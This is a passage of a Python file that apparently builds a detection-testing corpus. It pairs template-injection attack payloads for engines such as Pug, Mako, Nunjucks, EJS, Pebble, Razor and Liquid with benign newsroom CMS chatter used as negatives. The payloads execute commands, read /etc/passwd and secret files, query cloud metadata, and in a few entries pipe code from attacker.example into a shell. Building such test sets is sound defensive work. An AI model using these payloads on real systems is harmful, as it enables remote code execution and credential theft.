    "{{/with}}{{/with}}{{/with}}",
    "{{#each this}}{{@key}}={{this}} {{/each}}",
    "{{lookup (lookup this \"constructor\") \"name\"}}",
    "{{{lookup this \"__proto__\"}}}",
    "{{#with this.constructor.constructor as |f|}}{{f \"return process.env\"}}{{/with}}",
    "{{#get \"members\" limit=\"all\"}}{{#foreach members}}{{email}} {{/foreach}}{{/get}}",
    "{{#with (lookup this.__proto__ \"constructor\") as |o|}}{{o.keys o}}{{/with}}",
    "{{@root.config}}",
]

# ssti / pug. Platforms: KeystoneJS and Hexo themes written in pug, Express-based publishing tools that compile an
# editor's layout. Target: the pug engine (unbuffered code and interpolation run as JavaScript).
PUG: list[Entry] = [
    "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad('child_process')"
    ".exec('curl attacker.example/p|sh')}()}",
    "- global.process.mainModule.require('child_process').execSync('id')",
    "#{global.process.mainModule.require('child_process').execSync('cat /etc/passwd').toString()}",
    "p= global.process.env.DATABASE_URL",
    "include /etc/passwd",
    "- var x = root.process\n- x = x.mainModule.require\n- x('child_process').exec('id')",
    "!{process.mainModule.require('fs').readFileSync('/srv/keystone/.env')}",
    "div(class=global.process.mainModule.require('child_process').execSync('id'))",
    "#{this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}",
]

# ssti / mako. Platforms: Pyramid and Pylons publishing apps (Kotti add-ons with the mako renderer, legacy
# reddit-style sites), Python newsletter tools. Target: the Mako engine (expressions are plain Python).
MAKO: list[Entry] = [
    "${self.module.cache.util.os.system(\"id\")}",
    "<% import os; x=os.popen('id').read() %>${x}",
    "${__import__('os').popen('cat /etc/passwd').read()}",
    "<%! import os %>${os.system('id')}",
    "${self.template.module.runtime.util.os.popen('whoami').read()}",
    "<%namespace name=\"x\" module=\"os\"/>${x.system('id')}",
    "${context.__class__.__init__.__globals__['__builtins__']['__import__']('subprocess').check_output(['id'])}",
    "<%\nimport subprocess\n%>${subprocess.getoutput('uname -a')}",
    "${str().join(open('/etc/passwd'))}",
]

# ssti / tornado. Platforms: Tornado-based blogs and CMSs that render editor content with template.Template.
# Target: the Tornado template engine ({% import %}, {% apply %}, handler settings).
TORNADO: list[Entry] = [
    "{% import os %}{{ os.popen('id').read() }}",
    "{{ __import__('os').popen('cat /etc/passwd').read() }}",
    "{% raw __import__('os').system('id') %}",
    "{{ handler.settings }}",
    "{{ handler.application.settings['cookie_secret'] }}",
    "{% apply __import__('os').system %}id{% end %}",
    "{% set x = __import__('subprocess').check_output(['id']) %}{{ x }}",
    "{% import subprocess %}{{ subprocess.getoutput('uname -a') }}",
    "{{ handler.request.headers }}",
]

# ssti / nunjucks. Platforms: Apostrophe CMS, Eleventy and Hexo templates edited through a web admin, Netlify
# CMS previews rendered on a Node.js server. Target: the Nunjucks engine (range/cycler/joiner to Function).
NUNJUCKS: list[Entry] = [
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    "{{cycler.constructor(\"return process.env\")()}}",
    "{{joiner.constructor(\"return global.process.mainModule.require('fs').readFileSync('/etc/passwd')\")()}}",
    "{% set x = range.constructor(\"return this.process\")() %}"
    "{{ x.mainModule.require('child_process').execSync('whoami') }}",
    "{{''.constructor.constructor(\"return process\")().mainModule.require('child_process').execSync('id')}}",
    "{{ range.constructor(\"return require\")() }}",
    "{% include '/etc/passwd' %}",
    "{{ [].constructor.constructor('return process.mainModule.require(\"child_process\").execSync(\"id\")')() }}",
    "{{ apos.options.__proto__.constructor.constructor('return process.env')() }}",
]

# ssti / ejs. Platforms: Hexo themes (EJS), Express CMSs and Strapi's lodash-template email templates (same
# <% %> syntax; CVE-2023-22621), Express render-option injection (CVE-2022-29078). Target: the EJS/lodash engine.
EJS: list[Entry] = [
    "<%= process.mainModule.require('child_process').execSync('id') %>",
    "<%- global.process.mainModule.require('fs').readFileSync('/etc/passwd') %>",
    "<% global.process.mainModule.require('child_process').exec('curl http://attacker.example/h|sh') %>",
    "<%- include('/etc/passwd') %>",
    "<%= this.constructor.constructor('return process')().env %>",
    "<%= `${ process.binding('spawn_sync').spawn({file:'/bin/sh',args:['/bin/sh','-c','id'],"
    "stdio:[{readable:1,writable:1,type:'pipe'},{readable:1,writable:1,type:'pipe'}]}).output }` %>",
    ("settings[view options][outputFunctionName]=x;process.mainModule.require('child_process')"
     ".execSync('touch /tmp/ejs');s", *QS),
    ("settings[view options][client]=1&settings[view options][escapeFunction]=1;return global.process"
     ".mainModule.constructor._load('child_process').execSync('id');", *QS),
    "<%= global.process.mainModule.constructor._load('child_process').execSync('uname -a') %>",
    "<% var s=require('child_process'); %><%= s.execSync('id') %>",
]

# ssti / pebble. Platforms: Java publishing services and Spring Boot CMSs with Pebble views (editor-supplied
# snippets compiled with a string loader). Target: the Pebble engine (getClass and the 3.0.9 TYPE bypass).
PEBBLE: list[Entry] = [
    "{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}",
    "{% set cmd = 'id' %}{% set bytes = (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null)"
    ".exec(cmd).inputStream.readAllBytes() %}{{ (1).TYPE.forName('java.lang.String').constructors[0]"
    ".newInstance(([bytes]).toArray()) }}",
    "{{ \"\".getClass().forName(\"java.lang.Runtime\").getRuntime().exec(\"cat /etc/passwd\") }}",
    "{{ beans.get(\"dataSource\").getConnection() }}",
    "{{ request.getSession().getServletContext().getAttribute(\"javax.servlet.context.tempdir\") }}",
    "{% set x = (1).TYPE.forName('java.lang.System').methods %}{{ x }}",
    "{{ (1).TYPE.forName('java.lang.ProcessBuilder').constructors[0].newInstance(['id']).start() }}",
    "{% import \"file:///etc/passwd\" %}",
    "{{ beans }}",
]

# ssti / razor. Platforms: Umbraco partial views and macros, Orchard Core Razor templates, Kentico and DNN Razor
# host modules, Piranha and Sitecore renderings edited in the back office. Target: the Razor engine (C# code).
RAZOR: list[Entry] = [
    "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")",
    "@{ var p = new System.Diagnostics.Process(); p.StartInfo.FileName = \"cmd.exe\"; "
    "p.StartInfo.Arguments = \"/c whoami\"; p.Start(); }",
    "@(System.IO.File.ReadAllText(\"C:\\\\inetpub\\\\wwwroot\\\\web.config\"))",
    "@System.Environment.GetEnvironmentVariables()",
    "@inherits Umbraco.Web.Macros.PartialViewMacroPage\n@{ System.Diagnostics.Process.Start(\"powershell\","
    "\"-nop -c iwr http://attacker.example/u.ps1|iex\"); }",
    "@Html.Raw(System.IO.File.ReadAllText(@\"C:\\Windows\\win.ini\"))",
    "@using System.Diagnostics\n@{ Process.Start(\"cmd\",\"/c net user\"); }",
    "@{ var c = new System.Net.WebClient(); @c.DownloadString(\"http://169.254.169.254/latest/meta-data/\") }",
    "@System.Configuration.ConfigurationManager.ConnectionStrings[\"umbracoDbDSN\"]",
    "@(1337*1337)",
]

# ssti / go-templates. Platforms: Hugo content and shortcodes built by a CMS's preview server, Caddy's templates
# middleware serving editors' pages, gomplate-rendered site configs. Target: Go text/template and its functions.
GO_TEMPLATES: list[Entry] = [
    "{{ readFile \"/etc/passwd\" }}",
    "{{ os.ReadFile \"/etc/passwd\" }}",
    "{{ getenv \"HUGO_PARAMS_API_KEY\" }}",
    "{{ (resources.GetRemote \"http://169.254.169.254/latest/meta-data/iam/security-credentials/\").Content }}",
    "{{include \"/etc/passwd\"}}",
    "{{env \"AWS_SECRET_ACCESS_KEY\"}}",
    "{{.Req.Header}}",
    "{{ printf \"%#v\" . }}",
    "{{ file.Read \"/proc/self/environ\" }}",
    "{{ define \"x\" }}{{ readDir \"/\" }}{{ end }}{{ template \"x\" }}",
]

# ssti / liquid. Platforms: Jekyll sites built from editors' pull requests, Shopify themes, Orchard Core (Fluid),
# Eleventy and LiquidJS on Node.js, DotLiquid in .NET portals. Target: the Liquid engine (file includes,
# object leaks, LiquidJS prototype access).
LIQUID: list[Entry] = [
    "{% include ../../../../../../etc/passwd %}",
    "{% render '../../../../../../etc/passwd' %}",
    "{% include_relative ../../_config.yml %}",
    "{{ site | jsonify }}",
    "{% include 'C:\\Windows\\win.ini' %}",
    "{% assign c = \"x\" | split: \"\" %}{{ c.constructor.constructor }}",
    "{{ Model.ContentItem | json }}",
    "{% layout '../../../../appsettings.json' %}",
    "{{ 'a' | prepend: 7 | times: 7 }}{{ settings | json }}",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("generic", "nodejs-injection", NODE_INJECTION),
    ("generic", "nodejs-dos", NODE_DOS),
    ("generic", "ssrf-cloud-metadata", SSRF_METADATA),
    ("generic", "ssrf-internal-ip", SSRF_INTERNAL),
    ("generic", "javascript-prototype-pollution", POLLUTION),
    ("generic", "ruby-injection", RUBY),
    ("generic", "perl-injection", PERL),
    ("generic", "php-data-scheme", PHP_DATA),
    ("java", "java-class-names", JAVA_CLASSES),
    ("java", "java-process-spawn", JAVA_SPAWN),
    ("java", "java-serialization", JAVA_SERIALIZATION),
    ("java", "deserialization-gadgets", GADGETS),
    ("java", "log4shell", LOG4SHELL),
    ("java", "expression-language", EL),
    ("java", "polymorphic-deserialization", POLYMORPHIC),
    ("java", "class-loading", CLASS_LOADING),
    ("java", "jsp-upload", JSP_UPLOAD),
    ("ssti", "jinja2", JINJA2),
    ("ssti", "twig", TWIG),
    ("ssti", "freemarker", FREEMARKER),
    ("ssti", "velocity", VELOCITY),
    ("ssti", "thymeleaf", THYMELEAF),
    ("ssti", "erb", ERB),
    ("ssti", "smarty", SMARTY),
    ("ssti", "handlebars", HANDLEBARS),
    ("ssti", "pug", PUG),
    ("ssti", "mako", MAKO),
    ("ssti", "tornado", TORNADO),
    ("ssti", "nunjucks", NUNJUCKS),
    ("ssti", "ejs", EJS),
    ("ssti", "pebble", PEBBLE),
    ("ssti", "razor", RAZOR),
    ("ssti", "go-templates", GO_TEMPLATES),
    ("ssti", "liquid", LIQUID),
]
# fixed `name=value` entries of these sub-families are raw query strings or form bodies (sent unquoted)
RAW_KV_SUBS = {"javascript-prototype-pollution", "deserialization-gadgets", "expression-language", "ejs"}
# the platforms' own parameter names on our routes
NAMES = {
    "generic": ["url", "src", "feed_url", "post_content", "shortcode", "filter", "data", "callback", "import_url",
                "content", "excerpt", "source"],
    "java": ["q", "search", "queryString", "template", "content", "macro", "script", "data", "body", "title"],
    "ssti": ["template", "body", "content", "subject", "layout", "description", "widget_text", "footer_html",
             "email_template", "custom_html"],
}


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    raw_subs = RAW_KV_SUBS
    raw_places = ("query", "form", "param-name", "rs-query", "rs-form", "rs-raw-body", "rs-param-name")
    kv_safe = "=&[]._-:/'*$!(),;{}~@\"#"
    documents = True
    unique = True
    path_forbids = "/?#"
    xml_controls = "\n\t\r"
    upload = JSP_SHELL
    file_type = "application/octet-stream"

    def name(self, category: str, sub: str, k: int) -> str:
        names = NAMES[category]
        return names[k % len(names)]

    def is_latin(self, sub: str, payload: str) -> bool:
        return payload.startswith("\xac\xed")

    def is_raw(self, sub: str, payload: str, fixed: bool) -> bool:
        """A stream held as bytes is never a raw `name=value` pair, whatever bytes it carries."""
        return not self.is_latin(sub, payload) and super().is_raw(sub, payload, fixed)


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently by editors, web producers and site developers (Slack chat and bios,
# searches for colleagues by desk or section, links to CMS admin pages and docs, admin search prose, profiles,
# media and export file names, ordinary headers)
CHAT = [
    # editors and producers on posts, shortcodes and embeds
    "the [gallery ids=\"4211,4212,4215\"] shortcode on the election page shows only two photos, can someone look?",
    "use [caption id=\"attachment_5521\" align=\"alignright\" width=\"300\"] around the photo, not a plain <img>",
    "the YouTube embed on today's explainer is blank, oEmbed returned 404 for the unlisted video",
    "reminder: the Instagram embed needs the full https://www.instagram.com/p/... link, not the short one",
    "I pasted ![map of the route](/media/2024/06/route-map.png) in the Markdown block and it renders fine now",
    "can we redirect /2019/03/old-budget-story to /news/budget-2024 with a 301? the SEO plugin has a redirects tab",
    "the newsletter template still says {{ first_name }} literally in the preview, the merge tag only fills on send",
    "Mailchimp merge tags are *|FNAME|* not {{ first_name }}, that's why the test email looked odd",
    "the byline shows \"By {author}\" on AMP pages, looks like the AMP template lost the author field",
    "scheduled the weekend read for Saturday 07:00, it's in the Features category with the 'longread' tag",
    "the comment form asks people to solve a captcha twice, anyone else seeing this?",
    "the RSS feed at /feed/ shows the last 10 posts only, podcasts want 50, there's a setting under Reading",
    "the Atom feed validator complains about the <updated> element on /feed/atom/, I'll open a ticket",
    "embed from the city council's YouTube works, the Vimeo one needs the player.vimeo.com link",
    "I used the 'Duplicate post' plugin to copy last year's results page, remember to change the slug",
    "the page builder's 'Custom HTML' block strips <iframe> for editors; only admins can add the Datawrapper embed",
    "Datawrapper charts: paste the responsive iframe code, not the PNG link",
    "the live blog widget refreshes every 30 seconds; if it stops, reload the editor, don't republish",
    # site developers on templates
    "in the Twig template use {{ content.field_image }} not {{ node.field_image.value }}, the render array adds "
    "the cache tags",
    "Drupal: {% if content.field_tags|render|trim is not empty %} is the usual way to hide empty fields",
    "the Craft entry template does {% set related = craft.entries.relatedTo(entry).limit(3).all() %}, works fine",
    "Grav frontmatter: set `process: twig: true` only on the pages that need Twig in the content",
    "Jekyll layout: {% for post in site.posts limit:5 %}<li>{{ post.title }}</li>{% endfor %}",
    "the Liquid filter is {{ page.date | date: \"%-d %B %Y\" }}, that gives 7 June 2024",
    "Shopify theme: {% render 'product-card', product: product %} replaced the old include tag",
    "Hugo shortcode: {{< figure src=\"/img/flood.jpg\" caption=\"Flooding on Main St\" >}}",
    "Hugo: {{ range first 5 (where .Site.RegularPages \"Section\" \"news\") }} for the homepage rail",
    "Ghost theme: {{#foreach posts limit=\"3\"}}{{title}}{{/foreach}} in the footer partial",
    "Ghost {{#if feature_image}} wraps the hero, otherwise the card falls back to the site icon",
    "Handlebars partials in Ghost are {{> \"post-card\"}}, the quotes matter",
    "Nunjucks in the Eleventy build: {% include \"partials/header.njk\" %}",
    "EJS in the old Hexo theme: <%- partial('_partial/article', {post: post}) %>",
    "Jinja in the Pelican theme: {% for article in articles_page.object_list %}",
    "Umbraco partial: @Model.Value(\"heroTitle\") and @Umbraco.Media(Model.Value<int>(\"heroImage\"))",
    "Razor: @await Html.PartialAsync(\"_Byline\", Model.Author) in the Orchard theme",
    "Smarty in PrestaShop: {$product.name|escape:'html':'UTF-8'}",
    "Thymeleaf fragment: th:replace=\"~{fragments/header :: header}\" in the Spring newsroom app",
    "FreeMarker in Liferay: <#if entry.getTitle()?has_content>${entry.getTitle()}</#if>",
    "Velocity in Confluence user macros: $paramTitle and #if($body) ... #end",
    "ERB in the Refinery layout: <%= render 'shared/footer' %>",
    "Pug: each item in items\n  li= item.title",
    "Go templates: {{ with .Params.author }}By {{ . }}{{ end }}",
    # plugin updates, errors and infra
    "updated Yoast, WooCommerce and Jetpack on staging; prod tonight after the 22:00 deadline",
    "WordPress 6.5.4 is out, minor security release, auto-updates will pick it up",
    "the REST API call /wp-json/wp/v2/posts?per_page=20&categories=14 is what the app uses for the sports feed",
    "xmlrpc.php is blocked at the edge on purpose, Jetpack uses its own connection now",
    "admin-ajax.php?action=heartbeat is what's hammering the server when 30 editors have posts open",
    "Strapi 4.24 upgrade: the /api/articles?populate=* query is slow, use populate[cover]=true instead",
    "Directus: the filter is ?filter[status][_eq]=published, not status=published",
    "the image resizer URL is /cdn-cgi/image/width=800,quality=80/uploads/2024/06/flood.jpg",
    "Drupal cron failed: \"PDOException: SQLSTATE[HY000] [2002] Connection refused\", DB was restarting",
    "error in the Craft logs: Twig\\Error\\RuntimeError: Variable \"entry\" does not exist",
    "Liferay threw com.liferay.portal.kernel.exception.PortalException on the document library after the update",
    "Confluence says \"Unknown macro: {jira}\" on the old release notes pages",
    "Java heap space errors on the Solr box again, bumped -Xmx to 4g",
    "log4j got patched on the Solr and Elasticsearch boxes back in December 2021, Drupal search was never exposed",
    "the lodash prototype pollution advisory is for lodash < 4.17.21, our theme build pins 4.17.21",
    "the Node build for the Eleventy site needs Node 20, the CI image still had 18",
    "the staging server can't reach the metadata endpoint anymore since IMDSv2 is enforced, that's intended",
    "Ruby 3.3 upgrade broke the Jekyll build: 'undefined method `tainted?`', fixed by bumping Liquid",
    "our old Movable Type archive is still on Perl 5.16, we're exporting it to WordPress",
    "the data export from Kentico is a .zip with XML files per content type",
    "import tool: WP All Import maps the CSV column 'headline' to post_title",
    "the Disqus importer choked on a comment with an emoji in the author name",
    "phpBB board moved to Discourse last week, old /viewtopic.php?t=1234 links redirect",
    "MediaWiki: use {{Infobox person}} with |name= and |birth_date= on the staff pages",
    "DokuWiki page syntax: [[wiki:syntax|the syntax page]] for internal links",
    "TYPO3 TypoScript: page.10 = FLUIDTEMPLATE and the template path under EXT:sitepackage",
    "Sitecore publishing queue is stuck at 'Publishing items: 0 of 1250', restarting the publishing service",
    "Contentful webhook to Netlify fires twice per publish, the second build is a no-op",
    "Sanity GROQ: *[_type == \"post\" && defined(slug.current)] | order(publishedAt desc)[0...10]",
    "ProcessBuilder error in the thumbnail job: Cannot run program \"convert\", ImageMagick wasn't installed",
    # bios
    "Night web editor on the news desk. Formerly sub-editor at the Evening Post. WordPress, Ghost, too much coffee.",
    "Web producer, sports section. I build the live blogs, results tables and the odd Datawrapper chart.",
    "Front-end developer on the digital team: Twig, Liquid, Hugo and Handlebars themes; accessibility nerd.",
    "Drupal site builder, Views and Paragraphs; I maintain the newsroom's custom modules and the Solr search.",
    "Java developer on the Liferay intranet and the Magnolia public site. Ask me about FreeMarker templates.",
    "Managing editor, features. Style guide owner. Please don't use 'utilize'.",
]

SEARCHES = [
    "news desk", "sports section", "features desk", "web producer", "night editor", "digital team",
    "audience team", "newsletter", "podcast producer", "photo desk", "data desk", "copy desk",
    "managing editor", "SEO editor", "social media editor", "video team", "live blog", "opinion section",
    "WordPress admin", "Drupal", "Ghost", "Liferay", "Magnolia", "Craft CMS", "Umbraco", "Strapi",
    "template", "Twig", "Liquid", "Hugo", "shortcode", "embed", "redirects", "RSS feed", "media library",
    "image resizer", "Confluence", "Discourse", "Jekyll", "page builder", "Solr search", "metadata",
]

URLS = [
    "https://wordpress.org/documentation/article/shortcode-block/",
    "https://developer.wordpress.org/rest-api/reference/posts/",
    "https://www.drupal.org/docs/develop/theming-drupal/twig-in-drupal",
    "https://craftcms.com/docs/4.x/dev/twig-primer.html",
    "https://shopify.dev/docs/api/liquid/tags/render",
    "https://jekyllrb.com/docs/liquid/filters/",
    "https://gohugo.io/content-management/shortcodes/",
    "https://ghost.org/docs/themes/helpers/foreach/",
    "https://docs.strapi.io/dev-docs/api/rest/populate-select",
    "https://docs.directus.io/reference/filter-rules.html",
    "https://docs.umbraco.com/umbraco-cms/reference/templating/mvc/views",
    "https://learn.liferay.com/w/dxp/site-building/creating-pages/page-fragments-and-widgets",
    "https://freemarker.apache.org/docs/ref_builtins_expert.html",
    "https://velocity.apache.org/engine/2.3/user-guide.html",
    "https://www.thymeleaf.org/doc/tutorials/3.1/usingthymeleaf.html",
    "https://mozilla.github.io/nunjucks/templating.html",
    "https://cms.example.org/wp-admin/post.php?post=4182&action=edit",
    "https://cms.example.org/wp-admin/admin.php?page=wpseo_redirects",
    "https://news.example.org/ghost/#/editor/post/6651a2f0c4e1",
    "https://intranet.example.org/group/guest/~/control_panel/manage?p_p_id=com_liferay_journal_web_portlet",
    "https://wiki.example.org/display/WEB/Style+guide",
    "https://news.example.org/feed/atom/",
    "https://news.example.org/wp-json/oembed/1.0/embed?url=https%3A%2F%2Fnews.example.org%2F2024%2F06%2Fflood%2F",
    "https://img.example.org/cdn-cgi/image/width=800,quality=80/uploads/2024/06/flood.jpg",
]

PROSE = [
    "Please move the flood story above the fold and add the [gallery] shortcode at the end",
    "Redirect /2019/old-budget-story to /news/budget-2024 (301)",
    "Newsletter template shows {{ first_name }} in preview only",
    "the RSS feed for the podcast needs 50 items",
    "Twig: {{ content.body }} renders the body field with its formatter",
    "Liquid: {% if page.author %}By {{ page.author }}{% endif %}",
    "Hugo build failed: template: partials/header.html:12: function \"partial\" not defined",
    "Ghost theme upload failed: {{#get}} helper needs a limit",
    "YouTube embed shows a blank box on mobile, oEmbed returned 404",
    "editor locked out after the 2FA plugin update, reset sent",
    "import of 1,200 posts from the old Movable Type archive",
    "export WordPress comments to CSV for the audience team",
    "Confluence page 'Style guide' needs the new byline rules",
    "Strapi webhook to the Next.js site fails with 401",
    "Craft CMS entry type 'Article' needs a new 'Standfirst' field",
    "Drupal Views: sort by field_published_date descending",
    "Umbraco: the media picker doesn't show PDFs",
    "Liferay: the web content template uses FreeMarker, ask Jonas",
    "MediaWiki infobox template broke after the parser update",
    "Discourse category 'Reader questions' moved under 'Community'",
    "Jekyll site needs Ruby 3.3 on the build box",
    "the Node 20 upgrade for the Eleventy build",
    "Java heap size on the Solr box, -Xmx4g",
    "image resizer returns 502 for images over 20 MB",
    "ProcessBuilder error in the thumbnail worker, ImageMagick missing",
    "Smarty cache folder in PrestaShop filled the disk",
    "Thymeleaf fragment for the cookie banner",
    "page builder strips iframes for editors, only admins can embed",
    "comment form captcha appears twice",
    "sitemap.xml missing the video section",
    "Sitecore publishing queue stuck at 0 of 1250",
    "Kentico export of the press releases",
    "phpBB to Discourse redirects for viewtopic.php links",
    "metadata for the podcast episodes (iTunes tags)",
    "the Perl scripts on the old Movable Type box can be switched off after the export",
]

PROFILES = [
    ("Maren Solberg, night web editor", "News desk, 4th floor, Akersgata 55, Oslo"),
    ("Tom Whitaker, sports producer", "Sports section, Deansgate 1, Manchester"),
    ("Aisha Rahman, features editor", "Features desk, 120 Queen St W, Toronto"),
    ("Jonas Weber, Liferay developer", "Digital team, Rosenthaler Str. 40, Berlin"),
    ("Lucía Ortega, SEO editor", "Audience team, Calle de Alcalá 21, Madrid"),
    ("Ben O'Connor, podcast producer", "Audio studio 2, Baggot St 14, Dublin"),
    ("Priya Nair, data journalist", "Data desk, MG Road 88, Bengaluru"),
    ("Sam Twig", "Elm Row 3, Edinburgh"),
    ("Julia Liquid Design Studio", "Kanalstraat 12, Amsterdam"),
    ("Hugo Martin, photo editor", "Photo desk, Rue du Louvre 8, Paris"),
    ("Ghost Kitchen Co.", "Market St 500, San Francisco"),
    ("Craft & Co. Web Agency", "High St 22, Bristol"),
    ("Nina Kowalski, copy chief", "Copy desk, ul. Marszałkowska 10, Warsaw"),
    ("Ravi Menon, Drupal site builder", "Digital team, Bandra West, Mumbai"),
    ("Ingrid Berg, newsletter editor", "Audience team, Drottninggatan 5, Stockholm"),
    ("Marco Rossi, video producer", "Video team, Via Solferino 28, Milan"),
    ("Emily Chen, front-end developer", "Digital team, 9 Temasek Blvd, Singapore"),
    ("Oliver Smith, managing editor", "Editorial floor, 1 London Bridge St, London"),
    ("Sofia Costa, social media editor", "Social desk, Rua Augusta 12, Lisbon"),
    ("Daniel Kim, web producer", "Opinion section, Sejong-daero 124, Seoul"),
]

UPLOAD_NAMES = [
    "flood-main-st-2024-06-07.jpg", "hero_election_night_1920x1080.webp", "wordpress-export-2024-06-12.xml",
    "wp-comments-export.csv", "drupal_views_export.yml", "sitemap.xml", "newsletter-template-v3.html",
    "style-guide_v3.pdf", "podcast-ep-42-final.mp3", "datawrapper-chart-turnout.png",
    "movable-type-archive-2009-2015.zip", "ghost-content-2024-06-01.json", "strapi-articles-export.json",
    "liferay-web-content-template.ftl", "footer.twig", "post-card.hbs", "header.njk", "product-card.liquid",
    "byline.cshtml", "redirects-2024.csv", "confluence-space-WEB-export.zip", "logo@2x.png",
    "Press release - Q2 results (final).docx", "interview_transcript_O'Neill.txt", "kentico-press-releases.xml",
]

BENIGN_HEADERS = [
    ("Referer", "https://cms.example.org/wp-admin/post.php?post=4182&action=edit"),
    ("Referer", "https://cms.example.org/wp-admin/edit.php?post_type=page&orderby=date&order=desc"),
    ("Referer", "https://news.example.org/ghost/#/posts?type=scheduled"),
    ("Referer", "https://drupal.example.org/admin/content?status=1&type=article&items_per_page=50"),
    ("Referer", "https://wiki.example.org/pages/viewpage.action?pageId=786457"),
    ("Referer", "https://news.example.org/2024/06/07/flood-main-street/?utm_source=newsletter&utm_medium=email"),
    ("User-Agent", "WordPress/6.5.4; https://news.example.org"),
    ("User-Agent", "Feedly/1.0 (+http://www.feedly.com/fetcher.html; 12 subscribers; like FeedFetcher-Google)"),
    ("User-Agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
                   "Gecko) Version/17.5 Mobile/15E148 Safari/604.1"),
    ("Accept-Language", "nb-NO,nb;q=0.9,no;q=0.8,en;q=0.7"),
    ("Cookie", "session=abc123; wp-settings-time-3=1718000000; editor_mode=blocks"),
    ("X-Requested-With", "XMLHttpRequest"),
    ("If-Modified-Since", "Fri, 07 Jun 2024 06:00:00 GMT"),
    ("X-Api-Version", "2024-06-01"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
